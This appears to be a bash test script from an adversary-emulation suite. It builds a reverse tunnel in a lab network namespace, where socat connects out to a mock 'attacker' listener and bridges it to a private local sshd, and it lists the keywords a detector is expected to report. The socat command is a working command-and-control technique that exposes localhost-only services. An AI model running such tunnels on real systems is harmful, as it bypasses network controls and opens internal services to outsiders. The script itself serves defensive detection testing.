#!/bin/bash
# vigil-emulation: attack
# technique: T1572 Protocol Tunneling; T1090 Proxy
# tactic: command-and-control
# what: a reverse tunnel: socat connects out to an "attacker" listener on the far end of a
#   veth pair (198.18.x.2) and bridges it to a local service only reachable on the host
#   (a private sshd on 127.0.0.1), so the outside can reach it; the attacker side reads
#   the SSH banner through the tunnel.
# report: a process bridging an outbound connection to a local service (a tunnel).
# expect: tunnel|proxy|port forward|relay
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
. "$EMUL_LIB/ssh.sh"
emul_need socat ip sshd

emul_sshd
emul_veth_pair
emul_tmpdir
: >"$EMUL_DIR/ready"
emul_bg ip netns exec "$EMUL_NS" "$PY" -c "
import socket, sys
s = socket.socket(); s.bind(('$EMUL_PEER_IP', 0)); s.listen(1)
open('$EMUL_DIR/ready', 'w').write(str(s.getsockname()[1]))
s.settimeout(20)
c, _ = s.accept(); c.settimeout(5)
print('through the tunnel:', c.recv(200))
"
listener=$EMUL_BG_PID
port=$(emul_ready "$EMUL_DIR/ready")
timeout 10 socat "TCP:$EMUL_PEER_IP:$port" "TCP:127.0.0.1:$EMUL_SSHD_PORT" || true
wait "$listener" || true
